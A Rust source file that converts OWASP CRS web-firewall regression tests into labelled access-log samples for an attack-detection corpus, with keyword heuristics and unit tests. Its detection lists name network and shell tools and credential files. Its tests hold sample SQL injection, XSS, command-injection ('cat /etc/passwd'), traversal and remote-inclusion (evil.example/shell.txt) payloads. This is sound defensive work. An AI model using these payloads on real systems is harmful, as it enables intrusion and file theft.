//! OWASP CRS regression tests (go-ftw YAML): each test is one HTTP request with the rule
//! it must (or must not) trigger. Attacks are labelled by the rule family; tests that no
//! rule must fire on and whose description calls them false positives are hard benign
//! cases. Requests are replayed as access-log lines: a form body moves into the query
//! string (access logs do not record bodies), CRS's test paths (`/get`, `/post`) become
//! application paths.

use std::path::Path;

use serde_norway::Value;

use super::{files, format_for, read_text, rel, sample_k, web_evidence, web_sample};
use crate::build::{Sample, Split};
use crate::error::Problem;
use crate::label::{fine, sqli_subtype};
use crate::rng::Rng;
use crate::web::{
    attack_agent, attack_status, decode, public_ip, size_for, Placement, Request, ENDPOINTS,
};

pub const DIR: &str = "coreruleset";
const SOURCE: &str = "crs-regression";
const TEST_AGENT: &str = "OWASP CRS test agent";
/// Families read, by the first three digits of the rule id.
const FAMILIES: &[&str] = &["913", "930", "931", "932", "941", "942"];

/// Threat type of a positive test of `rule`, from the decoded payload where the family
/// has sub-types (rule names in docs/DATA.md).
pub fn family_label(
    rule: u32,
    decoded: &str,
    placement: Placement,
) -> Option<(&'static str, &'static str)> {
    match rule / 1000 {
        913 => Some((fine::RECON, "crs-913-scanner")),
        930 if rule == 930_130 => Some((fine::RECON, "crs-930130-restricted-file")),
        930 => Some(lfi_or_traversal(decoded, placement)),
        931 => Some((fine::LFI, "crs-931-rfi-as-inclusion")),
        932 => Some((fine::CMDI, "crs-932-rce")),
        941 => Some((fine::XSS, "crs-941-xss")),
        942 => Some((sqli_subtype(decoded), "crs-942-sqli+sqli-subtype")),
        _ => None,
    }
}

/// A `..` followed by a separator, written plainly or half-encoded (`../`, `..\`,
/// `..;/`, `..2f`, `..%c0%af`, `..0x2f`), dots written as `0x2e0x2e`, or a run of
/// undecodable escapes (overlong forms of `.` and `/`, shown as U+FFFD) before a path.
fn climbs(d: &str) -> bool {
    if d.contains("0x2e0x2e") || d.contains("\u{FFFD}\u{FFFD}") {
        return true;
    }
    // Every position, overlapping: `.../` is a climb too.
    (0..d.len()).any(|i| {
        let Some(rest) = d.get(i..).and_then(|r| r.strip_prefix("..")) else {
            return false;
        };
        ["/", "\\", ";", "2f", "5c", "%", "0x2f", "0x5c"]
            .iter()
            .any(|s| rest.starts_with(s))
    })
}

/// Rule `lfi-or-traversal`: a `../` (or `..\`) climb is path traversal; a file or
/// wrapper named in a parameter is local file inclusion; a sensitive file requested
/// directly as the path (`/.env`, `/.git/config`) is a scan for exposed files.
pub fn lfi_or_traversal(decoded: &str, placement: Placement) -> (&'static str, &'static str) {
    let d = decode(decoded, false).to_ascii_lowercase();
    if climbs(&d) {
        (fine::TRAVERSAL, "lfi-or-traversal")
    } else if placement == Placement::Path {
        (fine::RECON, "lfi-or-traversal")
    } else {
        (fine::LFI, "lfi-or-traversal")
    }
}

/// Descriptions that mark a must-not-fire test as legitimate input.
fn benign_description(desc: &str) -> bool {
    let d = desc.to_ascii_lowercase();
    [
        "false positive",
        "false-positive",
        " fp",
        "fp ",
        "legit",
        "benign",
        "valid request",
        "normal",
    ]
    .iter()
    .any(|w| d.contains(w))
}

fn ids(v: Option<&Value>) -> Vec<u32> {
    v.and_then(Value::as_sequence)
        .map(|s| {
            s.iter()
                .filter_map(|x| x.as_u64())
                .map(|x| x as u32)
                .collect()
        })
        .unwrap_or_default()
}

fn get<'a>(v: &'a Value, key: &str) -> Option<&'a Value> {
    v.as_mapping()?.get(Value::String(key.to_owned()))
}

fn get_str<'a>(v: &'a Value, key: &str) -> Option<&'a str> {
    get(v, key)?.as_str()
}

/// What one test sends, as far as an access log shows it.
struct Http {
    method: String,
    path: String,
    query: Option<String>,
    agent: Option<String>,
    referer: Option<String>,
}

/// The request of a test stage, or why it cannot appear in an access log.
fn http_of(input: &Value) -> Result<Http, &'static str> {
    let uri = get_str(input, "uri").unwrap_or("/");
    let method = get_str(input, "method")
        .unwrap_or("GET")
        .to_ascii_uppercase();
    let headers = get(input, "headers");
    let header = |name: &str| {
        headers
            .and_then(Value::as_mapping)
            .and_then(|m| {
                m.iter()
                    .find(|(k, _)| k.as_str().is_some_and(|k| k.eq_ignore_ascii_case(name)))
            })
            .and_then(|(_, v)| v.as_str())
            .map(str::to_owned)
    };
    if get(input, "encoded_request").is_some() || get(input, "raw_request").is_some() {
        return Err("raw request (not replayable as a log line)");
    }
    let (path, mut query) = match uri.split_once('?') {
        Some((p, q)) => (p.to_owned(), Some(q.to_owned())),
        None => (uri.to_owned(), None),
    };
    if let Some(data) = get_str(input, "data") {
        let data = data.trim();
        let ctype = header("Content-Type")
            .unwrap_or_default()
            .to_ascii_lowercase();
        if data.contains('\n')
            || data.starts_with('{')
            || data.starts_with('<')
            || ctype.contains("json")
            || ctype.contains("xml")
            || ctype.contains("multipart")
        {
            return Err("payload in a structured body (not in access logs)");
        }
        if !data.is_empty() {
            query = Some(match query {
                Some(q) if !q.is_empty() => format!("{q}&{data}"),
                _ => data.to_owned(),
            });
        }
    }
    let agent = header("User-Agent").filter(|a| a != TEST_AGENT && !a.is_empty());
    let referer = header("Referer");
    let method = if matches!(method.as_str(), "POST" | "PUT" | "PATCH") {
        // The body became the query string: a GET is what would log it.
        "GET".to_owned()
    } else {
        method
    };
    Ok(Http {
        method,
        path,
        query,
        agent,
        referer,
    })
}

/// Reads the regression tests of the families above.
pub fn read(root: &Path, seed: u64, out: &mut Vec<Sample>, problems: &mut Vec<Problem>) {
    let mut by_family: std::collections::BTreeMap<u32, Vec<(String, Sample)>> = Default::default();
    let tests = root.join("tests/regression/tests");
    let all = files(&tests, &|p| {
        p.extension().is_some_and(|e| e == "yaml")
            && p.parent()
                .and_then(|d| d.file_name())
                .and_then(|d| d.to_str())
                .is_some_and(|d| {
                    FAMILIES
                        .iter()
                        .any(|f| d.starts_with(&format!("REQUEST-{f}-")))
                })
    });
    for path in all {
        let Some(text) = read_text(root, &path, problems) else {
            continue;
        };
        let doc: Value = match serde_norway::from_str(&text) {
            Ok(d) => d,
            Err(e) => {
                problems.push(Problem {
                    path: rel(root, &path),
                    line: e.location().map_or(0, |l| l.line()),
                    reason: format!("invalid YAML: {e}"),
                });
                continue;
            }
        };
        let rule = get(&doc, "rule_id").and_then(Value::as_u64).unwrap_or(0) as u32;
        let Some(tests) = get(&doc, "tests").and_then(Value::as_sequence) else {
            problems.push(Problem {
                path: rel(root, &path),
                line: 0,
                reason: "no `tests` list".into(),
            });
            continue;
        };
        for (i, test) in tests.iter().enumerate() {
            let test_id = get(test, "test_id")
                .and_then(Value::as_u64)
                .unwrap_or(i as u64 + 1);
            let key = format!("{}#{test_id}", rel(root, &path));
            let desc = get_str(test, "desc").unwrap_or_default();
            let Some(stage) = get(test, "stages")
                .and_then(Value::as_sequence)
                .and_then(|s| s.first())
            else {
                continue;
            };
            let stage = get(stage, "stage").unwrap_or(stage);
            let (Some(input), Some(output)) = (get(stage, "input"), get(stage, "output")) else {
                continue;
            };
            let log = get(output, "log").unwrap_or(output);
            let expect = ids(get(log, "expect_ids"));
            let no_expect = ids(get(log, "no_expect_ids"));
            let http = match http_of(input) {
                Ok(h) => h,
                Err(_) => continue, // not visible in an access log: not a defect of the file
            };
            let mut rng = Rng::for_item(seed, &key);
            if expect.contains(&rule)
                || (!expect.is_empty() && expect.iter().all(|id| id / 1000 == rule / 1000))
            {
                if let Some(s) = attack_sample(key.clone(), rule, &http, &mut rng) {
                    by_family.entry(rule / 1000).or_default().push((key, s));
                }
            } else if expect.is_empty() && !no_expect.is_empty() && benign_description(desc) {
                let shown = http.query.clone().unwrap_or_else(|| http.path.clone());
                if super::looks_like_attack(&decode(&shown, true)) || http.agent.is_some() {
                    continue;
                }
                let mut req = request(&http, &mut rng);
                req.status = *rng.pick(&[200, 200, 200, 302, 404]);
                req.bytes = size_for(req.status, &mut rng);
                req.user_agent = rng.pick(crate::web::BROWSER_AGENTS).to_string();
                let format = crate::web::WebFormat::draw(&mut rng);
                let evidence = format!(
                    "Ordinary {} request for {} from {}; the parameters hold plain input, no attack syntax ({}).",
                    req.method,
                    crate::label::clip(&req.target, 100),
                    req.client,
                    req.status
                );
                out.push(web_sample(
                    key,
                    &req,
                    format,
                    &mut rng,
                    fine::BENIGN,
                    "crs-must-not-fire".into(),
                    SOURCE,
                    Split::Train,
                    evidence,
                ));
            }
        }
    }
    // Families are very unequal (about 1,000 SQLi and RCE tests, 7 scanner tests): a
    // seeded sample per family keeps the corpus small and balanced.
    for (family, items) in by_family {
        let cap = match family {
            942 => 180,
            932 => 140,
            941 => 160,
            _ => usize::MAX,
        };
        out.extend(sample_k(items, cap, seed).into_iter().map(|(_, s)| s));
    }
}

/// The logged request: CRS's placeholder paths become application paths.
fn request(http: &Http, rng: &mut Rng) -> Request {
    let path = if matches!(
        http.path.as_str(),
        "/" | "/get" | "/post" | "/anything" | "/index.html" | ""
    ) {
        rng.pick(ENDPOINTS).path.to_owned()
    } else {
        http.path.clone()
    };
    let mut target = match &http.query {
        Some(q) if !q.is_empty() => format!("{path}?{q}"),
        _ => path,
    };
    // go-ftw sends some targets with raw spaces; a log line holds them encoded.
    target = target.replace(' ', "%20");
    let status = attack_status(rng);
    Request {
        client: public_ip(rng),
        method: http.method.clone(),
        target,
        status,
        bytes: size_for(status, rng),
        referer: http.referer.clone(),
        user_agent: http.agent.clone().unwrap_or_else(|| attack_agent(rng)),
        user: None,
        time: crate::web::draw_time(rng),
    }
}

/// Rule `crs-visible-syntax`: a positive test is kept only when the replayed line shows
/// at least two distinct features of its class (keywords, operators, wrappers) in the
/// parameter values. High-paranoia tests fire on fragments (`minute (`, `ordeR by`,
/// `x=http?`) that no analyst would call an attack from the log line alone.
pub fn shows_class_syntax(family: u32, decoded: &str) -> bool {
    // Parameter names (`pay=`, `var=`) are the test's, not the attacker's syntax.
    let values: String = decoded
        .split('&')
        .map(|part| match part.split_once('=') {
            Some((name, v))
                if !name.is_empty()
                    && name
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || "_-[]".contains(c)) =>
            {
                v
            }
            _ => part,
        })
        .collect::<Vec<_>>()
        .join(" ");
    let p = values.to_ascii_lowercase();
    let count = |m: &[&str]| m.iter().filter(|w| p.contains(*w)).count();
    // Quotes, `=` and `;` alone are any text's punctuation: SQL needs a word or a comment.
    const SQL_WORDS: &[&str] = &[
        "--",
        "#",
        "/*",
        " or ",
        " and ",
        "||",
        "&&",
        "select",
        "union",
        "sleep",
        "benchmark",
        "waitfor",
        "@@",
        "char(",
        "concat",
        "0x",
        "order by",
        "group by",
        "having",
        "insert",
        "update",
        "delete",
        "drop",
        "exec",
        "information_schema",
        "xor",
        "from",
        "where",
        "limit",
        "case",
        "like",
    ];
    // CRS's XSS rules also fire on SQL-with-XML payloads; those are not script injection.
    const SCRIPT_WORDS: &[&str] = &[
        "<script",
        "javascript:",
        "alert",
        "prompt",
        "confirm",
        "onerror",
        "onload",
        "eval",
    ];
    if family == 942 && count(SQL_WORDS) == 0 {
        return false;
    }
    if family == 941 && p.contains("select") && count(SCRIPT_WORDS) == 0 {
        return false;
    }
    match family {
        // SQL needs two marks here, punctuation counting too.
        942 => count(SQL_WORDS) + count(&["'", "\"", ";", "="]) >= 2,
        941 => {
            count(&[
                "<",
                ">",
                "javascript:",
                "vbscript:",
                "alert",
                "prompt",
                "confirm",
                "script",
                "expression(",
                "data:",
                "document",
                "window",
                "eval",
                "src=",
                "href=",
                "style",
                "onerror",
                "onload",
                "onmouse",
                "onfocus",
                "svg",
                "iframe",
                "img",
            ]) >= 2
        }
        932 => {
            count(&[
                ";",
                "|",
                "&",
                "`",
                "$(",
                "${",
                "/bin",
                "/etc/",
                "whoami",
                "cat ",
                "echo",
                "wget",
                "curl",
                "nc ",
                "bash",
                "sh ",
                "powershell",
                "cmd",
                "ping",
                "exec",
                "\n",
                "() {",
                "python",
                "perl",
                "irb",
                "vi ",
                "ls",
                "id",
                "if ",
                "exit",
                "passwd",
                "reg",
                "del ",
                "set ",
            ]) >= 2
        }
        931 => {
            count(&[
                "php://", "file:", "data:", "expect:", "jar:", "zip:", "phar:", "ftp://", "://",
            ]) >= 1
                && (p.ends_with('?')
                    || count(&[
                        ".txt", ".php", ".inc", "shell", "file:", "php://", "data:", "expect:",
                        "jar:", "zip:", "phar:", "/etc/",
                    ]) >= 1)
        }
        930 => {
            count(&[
                "../",
                "..\\",
                "/etc/",
                "/proc/",
                "/root/",
                ".ssh",
                "c:\\",
                "c:/",
                "win.ini",
                "boot.ini",
                "passwd",
                "php://",
                "file:",
                ".htaccess",
                ".env",
                "web.config",
                "/var/",
                "shadow",
                ".git",
                "id_rsa",
                "/.",
                "%00",
            ]) >= 1
        }
        _ => true,
    }
}

fn attack_sample(key: String, rule: u32, http: &Http, rng: &mut Rng) -> Option<Sample> {
    let placeholder = matches!(
        http.path.as_str(),
        "/" | "/get" | "/post" | "/anything" | "/index.html" | ""
    );
    let has_query = http.query.as_ref().is_some_and(|q| !q.is_empty());
    if placeholder && !has_query && http.agent.is_none() && http.referer.is_none() {
        return None; // the payload is in a header or body an access log does not show
    }
    let mut req = request(http, rng);
    let (placement, shown) = if let Some(a) = &http.agent {
        (Placement::UserAgent, a.clone())
    } else if let Some(r) = &http.referer {
        (Placement::Referer, r.clone())
    } else if let Some(q) = http.query.as_ref().filter(|q| !q.is_empty()) {
        (Placement::Query, q.clone())
    } else {
        (Placement::Path, http.path.clone())
    };
    // Some clients encode once more (evasion, or a proxy re-encoding).
    if placement == Placement::Query && rng.chance(8) {
        if let Some((p, q)) = req.target.split_once('?') {
            req.target = format!("{p}?{}", q.replace('%', "%25"));
        }
    }
    let decoded = decode(&decode(&shown, true), true);
    if !shows_class_syntax(rule / 1000, &decoded) {
        return None;
    }
    let (fine_type, rule_name) = family_label(rule, &decoded, placement)?;
    let format = format_for(placement, rng);
    let evidence = web_evidence(fine_type, placement, &shown, &req);
    Some(web_sample(
        key,
        &req,
        format,
        rng,
        fine_type,
        rule_name.to_owned(),
        SOURCE,
        Split::Train,
        evidence,
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn visible_syntax_keeps_attacks_and_drops_fragments() {
        assert!(shows_class_syntax(942, "id=1' OR '1'='1"));
        assert!(shows_class_syntax(
            942,
            "pay=IF EXISTS (SELECT * FROM users)"
        ));
        assert!(!shows_class_syntax(942, "pay=ordeR by"), "one feature only");
        assert!(!shows_class_syntax(942, "execute panel"));
        assert!(!shows_class_syntax(942, "chaR("));
        assert!(
            !shows_class_syntax(942, "pay=div style=\""),
            "HTML, not SQL"
        );
        assert!(!shows_class_syntax(
            941,
            "var=x'||(select extractvalue(xmltype('<?xml version=\"1.0\"?>"
        ));
        assert!(shows_class_syntax(942, "user=42 OR 1=1"));
        assert!(shows_class_syntax(941, "q=<svg/onload=alert(1)>"));
        assert!(!shows_class_syntax(941, "941180-1=window.location"));
        assert!(shows_class_syntax(932, "host=x;cat /etc/passwd"));
        assert!(!shows_class_syntax(932, "rce=!-1!-2"));
        assert!(shows_class_syntax(931, "x=http://evil.example/shell.txt?"));
        assert!(
            !shows_class_syntax(931, "x=https://example.com:1234/"),
            "a URL parameter is not inclusion"
        );
        assert!(!shows_class_syntax(930, "code=backup.sql.zip"));
        assert!(shows_class_syntax(930, "file=../../etc/passwd"));
    }

    #[test]
    fn lfi_traversal_or_scan_by_shape_and_place() {
        assert_eq!(
            lfi_or_traversal("f=..%2f..%2fetc/passwd", Placement::Query).0,
            fine::TRAVERSAL
        );
        assert_eq!(
            lfi_or_traversal("f=/etc/passwd", Placement::Query).0,
            fine::LFI
        );
        assert_eq!(
            lfi_or_traversal("/.git/config", Placement::Path).0,
            fine::RECON
        );
        // Dots and slashes in fuzzers' notations are climbs too.
        for climb in [
            "f=/0x2e0x2e/etc/passwd",
            "/..0x2f..0x2fetc/passwd",
            "f=/\u{FFFD}\u{FFFD}\u{FFFD}\u{FFFD}etc/passwd",
        ] {
            assert_eq!(lfi_or_traversal(climb, Placement::Path).0, fine::TRAVERSAL);
        }
        assert_eq!(
            family_label(930_130, "/.env", Placement::Path).map(|l| l.0),
            Some(fine::RECON)
        );
        assert_eq!(
            family_label(942_100, "1 union select 1", Placement::Query).map(|l| l.0),
            Some(fine::SQLI_UNION)
        );
        assert_eq!(family_label(920_100, "x", Placement::Query), None);
    }
}
